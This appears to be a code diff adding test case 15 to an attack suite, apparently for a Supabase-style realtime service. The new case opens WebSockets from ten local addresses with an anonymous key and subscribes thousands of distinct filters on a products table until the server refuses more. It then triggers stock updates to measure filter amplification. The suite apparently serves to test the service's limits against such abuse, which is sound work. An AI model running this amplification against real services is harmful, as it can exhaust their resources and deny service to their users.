@@ -224,6 +224,60 @@ export function attacksOn(target: AttackTarget): Attack[] {
       },
     ],
     [
+      '15: filter amplification: 10 addresses join distinct filters on products until refused, then 20 stock changes',
+      async () => {
+        const url = `${apiUrl.replace('http', 'ws')}/realtime/v1/websocket?apikey=${anonKey}&vsn=1.0.0`;
+        const sockets: WebSocket[] = [];
+        let held = 0;
+        for (let a = 0; a < 10; a++) {
+          const ws = new WebSocket(url, { localAddress: `127.0.0.${10 + a}` });
+          sockets.push(ws);
+          await new Promise((resolve, reject) => ws.once('open', resolve).once('error', reject));
+          for (let c = 0; c < 70; c++) {
+            const changes = Array.from({ length: 100 }, (_, i) => ({
+              event: 'UPDATE',
+              schema: 'public',
+              table: 'products',
+              filter: `name=eq.x${a * 10_000 + c * 100 + i}`,
+            }));
+            const ref = `${a}-${c}`;
+            const reply = new Promise<string>((resolve) => {
+              const onMessage = (data: WebSocket.RawData) => {
+                const frame = JSON.parse(String(data)) as {
+                  ref: string;
+                  payload: { status: string };
+                };
+                if (frame.ref !== ref) return;
+                ws.off('message', onMessage);
+                resolve(frame.payload.status);
+              };
+              ws.on('message', onMessage);
+            });
+            ws.send(
+              JSON.stringify({
+                topic: `realtime:amp-${c}`,
+                event: 'phx_join',
+                payload: { config: { postgres_changes: changes } },
+                ref,
+              }),
+            );
+            if ((await reply) !== 'ok') break;
+            held += 100;
+          }
+        }
+        console.log(`  (attacker holds ${held} distinct filters on products)`);
+        await repeat(20, (i) =>
+          target.engine.query(
+            `update public.products set "stockQuantity" = "stockQuantity" + $1 where id = 'mdr40'`,
+            [i % 2 ? 1 : -1],
+          ),
+        );
+        // The changes are delivered after they commit: wait for the feed to work through them.
+        await new Promise((r) => setTimeout(r, 3000));
+        for (const ws of sockets) ws.close();
+      },
+    ],
+    [
       '14: 10 users made and deleted by the service role',
       () =>
         repeat(10, async (i) => {
